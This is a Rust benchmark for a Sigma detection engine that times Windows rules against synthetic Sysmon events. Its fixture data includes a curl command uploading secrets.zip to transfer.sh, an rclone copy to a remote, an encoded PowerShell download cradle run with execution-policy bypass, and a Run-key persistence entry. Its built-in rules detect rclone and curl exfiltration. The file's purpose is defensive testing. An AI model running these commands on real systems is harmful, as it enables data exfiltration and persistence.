//! Matches a few thousand hand-made Sysmon-like events against every Windows
//! rule of the SigmaHQ corpus (or a small built-in set when it is absent).

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use outflow_detect::Detector;
use outflow_event::{Event, LogSource, Origin, Position, SourceKind};
use outflow_sigma::{RuleSet, SigmaDetector};
use std::hint::black_box;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Instant;

const BUILTIN: &str = "\
title: Rclone
logsource: {product: windows, category: process_creation}
detection:
    sel: {Image|endswith: '\\rclone.exe', CommandLine|contains: [' copy ', ' sync ']}
    condition: sel
---
title: Curl upload
logsource: {product: windows, category: process_creation}
detection:
    sel: {Image|endswith: '\\curl.exe', CommandLine|contains|windash: [' -T ', ' --upload-file ']}
    condition: sel
";

fn rules() -> RuleSet {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpus/sigma/full/rules/windows");
    let (set, report) = if dir.is_dir() {
        RuleSet::load(&[dir], None)
    } else {
        eprintln!("corpus absent: using the built-in rules");
        RuleSet::from_yaml("builtin.yml", BUILTIN, None)
    };
    eprintln!(
        "{} rules loaded, {} rejected",
        report.loaded_rules(),
        report.rejected().count()
    );
    set
}

const IMAGES: &[&str] = &[
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Users\\bob\\AppData\\Local\\Temp\\rclone.exe",
    "C:\\Windows\\System32\\curl.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\svchost.exe",
];
const COMMANDS: &[&str] = &[
    "cmd.exe /c whoami /all",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
    "rclone.exe copy C:\\Users\\bob\\Documents remote:backup --transfers 8",
    "curl.exe -T secrets.zip https://transfer.sh/secrets.zip",
    "C:\\Windows\\Explorer.EXE",
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
];
const CATEGORIES: &[(&str, &str)] = &[
    ("1", "process_creation"),
    ("3", "network_connection"),
    ("7", "image_load"),
    ("11", "file_event"),
    ("13", "registry_set"),
    ("22", "dns_query"),
];

fn events(n: usize) -> Vec<Event> {
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let (id, cat) = CATEGORIES[i % CATEGORIES.len()];
        let img = IMAGES[i % IMAGES.len()];
        let cmd = COMMANDS[(i / 3) % COMMANDS.len()];
        let origin = Origin {
            file: Arc::from("bench.evtx"),
            position: Position::Record(i as u64),
        };
        let mut ev = Event::new(SourceKind::Evtx, origin, "");
        let mut put = |k: &str, v: &str| ev.push_str(Arc::from(k), v);
        put("EventID", id);
        put("Channel", "Microsoft-Windows-Sysmon/Operational");
        put("Computer", "WS-0042.corp.example.com");
        put("UtcTime", "2025-03-01 12:34:56.789");
        put("ProcessGuid", "{12345678-1234-1234-1234-123456789abc}");
        put("ProcessId", &(1000 + i % 5000).to_string());
        put("Image", img);
        put("User", "CORP\\bob");
        match cat {
            "process_creation" => {
                put("CommandLine", cmd);
                put("CurrentDirectory", "C:\\Users\\bob\\");
                put("ParentImage", IMAGES[(i + 5) % IMAGES.len()]);
                put("ParentCommandLine", COMMANDS[(i + 5) % COMMANDS.len()]);
                put("OriginalFileName", img.rsplit('\\').next().unwrap_or(img));
                put("IntegrityLevel", "Medium");
                put(
                    "Hashes",
                    "SHA256=0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF",
                );
            }
            "network_connection" => {
                put("DestinationIp", "203.0.113.7");
                put("DestinationPort", "443");
                put("DestinationHostname", "transfer.sh");
                put("Initiated", "true");
            }
            "image_load" => put("ImageLoaded", "C:\\Windows\\System32\\wininet.dll"),
            "file_event" => put(
                "TargetFilename",
                "C:\\Users\\bob\\AppData\\Local\\Temp\\out.zip",
            ),
            "registry_set" => {
                put(
                    "TargetObject",
                    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
                );
                put("Details", "C:\\Users\\bob\\a.exe");
            }
            _ => put("QueryName", "transfer.sh"),
        }
        ev.logsources = Arc::from(vec![LogSource {
            product: Some(Arc::from("windows")),
            category: Some(Arc::from(cat)),
            service: Some(Arc::from("sysmon")),
        }]);
        out.push(ev);
    }
    out
}

fn bench(c: &mut Criterion) {
    let set = Arc::new(rules());
    let evs = events(3000);
    let mut plain = SigmaDetector::new(Arc::new((*set).clone().without_prefilter()));
    let mut det = SigmaDetector::new(set);
    let mut alerts = Vec::new();
    let start = Instant::now();
    for e in &evs {
        det.process(e, &mut alerts);
    }
    let secs = start.elapsed().as_secs_f64();
    eprintln!(
        "one pass: {} events, {} alerts, {:.0} events/s",
        evs.len(),
        alerts.len(),
        evs.len() as f64 / secs
    );
    let mut check = Vec::new();
    let start = Instant::now();
    for e in &evs {
        plain.process(e, &mut check);
    }
    eprintln!(
        "without prefilter: {:.0} events/s",
        evs.len() as f64 / start.elapsed().as_secs_f64()
    );
    assert_eq!(check, alerts, "the prefilter changed the results");
    let mut g = c.benchmark_group("sigma");
    g.throughput(Throughput::Elements(evs.len() as u64));
    g.sample_size(10);
    g.bench_function("windows_rules_x_3000_events", |b| {
        b.iter(|| {
            alerts.clear();
            for e in &evs {
                det.process(black_box(e), &mut alerts);
            }
            alerts.len()
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
